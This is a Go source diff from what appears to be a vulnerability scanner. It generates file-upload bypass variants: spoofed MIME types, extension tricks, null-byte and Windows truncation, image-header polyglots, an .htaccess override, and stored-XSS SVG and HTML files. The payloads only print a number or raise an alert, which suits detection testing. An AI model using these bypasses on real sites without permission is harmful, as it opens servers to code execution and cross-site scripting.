@@ -0,0 +1,155 @@
+package upload
+
+import (
+    "fmt"
+    "path"
+    "strings"
+)
+
+/**
+   @author yhy
+   @since 2024/6/28
+   @desc 上传文件的变形，扩展名(双扩展名、大小写、截断、特殊扩展名)、MIME、文件头绕过，
+        脚本内容只输出两个数的乘积，不执行命令、不写文件，响应中出现乘积说明被执行
+**/
+
+const (
+    kindScript = "script" // 服务端脚本，访问时被执行
+    kindXss    = "xss"    // svg、html，访问时作为页面渲染
+)
+
+// file 上传的一个文件
+type file struct {
+    filename    string
+    contentType string
+    content     string
+}
+
+type variant struct {
+    name    string // 绕过方式
+    kind    string
+    upload  file
+    stored  string // 保存到服务端后预期的文件名，用于定位
+    prepare *file  // 需要先上传的文件，例如 .htaccess
+}
+
+// language 服务端脚本语言
+type language struct {
+    name  string
+    exts  []string // 第一个为标准扩展名，其余为同样会被解析的扩展名
+    code  string   // 输出 %d*%d 的结果
+    magic bool     // 是否测试文件头绕过
+}
+
+var languages = map[string]*language{
+    "php": {
+        name:  "php",
+        exts:  []string{"php", "phtml", "php5", "phar", "pht"},
+        code:  "<?php echo %d*%d; ?>",
+        magic: true,
+    },
+    "asp": {
+        name: "asp",
+        exts: []string{"asp", "asa", "cer", "cdx"},
+        code: "<%% Response.Write(%d*%d) %%>",
+    },
+    "aspx": {
+        name: "aspx",
+        exts: []string{"aspx"},
+        code: "<%%@ Page Language=\"C#\" %%><%% Response.Write(%d*%d); %%>",
+    },
+    "jsp": {
+        name:  "jsp",
+        exts:  []string{"jsp", "jspx"},
+        code:  "<%%= %d*%d %%>",
+        magic: true,
+    },
+}
+
+// 常见的图片文件头
+const (
+    gifMagic = "GIF89a\n"
+    pngMagic = "\x89PNG\r\n\x1a\n"
+)
+
+// variants 根据脚本语言生成要上传的文件，base 为不带扩展名的随机文件名，a*b 为脚本输出的值
+// htaccess 为 true 时才生成需要先上传 .htaccess 的变形
+func variants(langs []*language, base, origin string, a, b int, htaccess bool) []*variant {
+    var vs []*variant
+    image := "image/jpeg"
+    if ext := strings.ToLower(path.Ext(origin)); ext == ".png" {
+        image = "image/png"
+    } else if ext == ".gif" {
+        image = "image/gif"
+    }
+    
+    n := 0
+    name := func() string {
+        n++
+        return fmt.Sprintf("%s%d", base, n)
+    }
+    
+    for _, l := range langs {
+        code := fmt.Sprintf(l.code, a, b)
+        ext := l.exts[0]
+        
+        // 不做任何绕过
+        f := name()
+        vs = append(vs, &variant{name: "no restriction", kind: kindScript, upload: file{f + "." + ext, "application/octet-stream", code}, stored: f + "." + ext})
+        // 只校验 Content-Type
+        f = name()
+        vs = append(vs, &variant{name: "Content-Type bypass", kind: kindScript, upload: file{f + "." + ext, image, code}, stored: f + "." + ext})
+        // 大小写
+        f = name()
+        upper := strings.ToUpper(ext[:1]) + ext[1:len(ext)-1] + strings.ToUpper(ext[len(ext)-1:])
+        vs = append(vs, &variant{name: "extension case bypass", kind: kindScript, upload: file{f + "." + upper, image, code}, stored: f + "." + upper})
+        // 其他会被解析的扩展名
+        for _, e := range l.exts[1:] {
+            f = name()
+            vs = append(vs, &variant{name: "alternative extension ." + e, kind: kindScript, upload: file{f + "." + e, image, code}, stored: f + "." + e})
+        }
+        // 双扩展名，只校验第一个扩展名、Apache 多扩展名解析
+        f = name()
+        vs = append(vs, &variant{name: "double extension", kind: kindScript, upload: file{f + ".jpg." + ext, image, code}, stored: f + ".jpg." + ext})
+        f = name()
+        vs = append(vs, &variant{name: "double extension (Apache)", kind: kindScript, upload: file{f + "." + ext + ".jpg", image, code}, stored: f + "." + ext + ".jpg"})
+        // 截断，保存时 %00、末尾的点、::$DATA 被去掉
+        f = name()
+        vs = append(vs, &variant{name: "null byte truncation", kind: kindScript, upload: file{f + "." + ext + "\x00.jpg", image, code}, stored: f + "." + ext})
+        f = name()
+        vs = append(vs, &variant{name: "trailing dot (Windows)", kind: kindScript, upload: file{f + "." + ext + ".", image, code}, stored: f + "." + ext})
+        f = name()
+        vs = append(vs, &variant{name: "::$DATA stream (Windows)", kind: kindScript, upload: file{f + "." + ext + "::$DATA", image, code}, stored: f + "." + ext})
+        
+        // 文件头伪造为图片
+        if l.magic {
+            f = name()
+            vs = append(vs, &variant{name: "GIF magic bytes polyglot", kind: kindScript, upload: file{f + "." + ext, "image/gif", gifMagic + code}, stored: f + "." + ext})
+            f = name()
+            vs = append(vs, &variant{name: "PNG magic bytes polyglot", kind: kindScript, upload: file{f + "." + ext, "image/png", pngMagic + code}, stored: f + "." + ext})
+        }
+        
+        // Apache 下先上传 .htaccess，让自定义扩展名按照 php 解析，会影响整个目录，需要单独开启
+        if l.name == "php" && htaccess {
+            f = name()
+            custom := "jie" + base[len(base)-4:]
+            vs = append(vs, &variant{
+                name:    ".htaccess override",
+                kind:    kindScript,
+                upload:  file{f + "." + custom, image, gifMagic + code},
+                stored:  f + "." + custom,
+                prepare: &file{".htaccess", "text/plain", "AddType application/x-httpd-php ." + custom + "\n"},
+            })
+        }
+    }
+    
+    // 存储型 xss
+    marker := fmt.Sprintf("%d", a*b)
+    f := name()
+    vs = append(vs, &variant{name: "SVG", kind: kindXss, upload: file{f + ".svg", "image/svg+xml",
+        `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(` + marker + `)"><script>alert(` + marker + `)</script></svg>`}, stored: f + ".svg"})
+    f = name()
+    vs = append(vs, &variant{name: "HTML", kind: kindXss, upload: file{f + ".html", "text/html",
+        `<html><body><script>alert(` + marker + `)</script></body></html>`}, stored: f + ".html"})
+    return vs
+}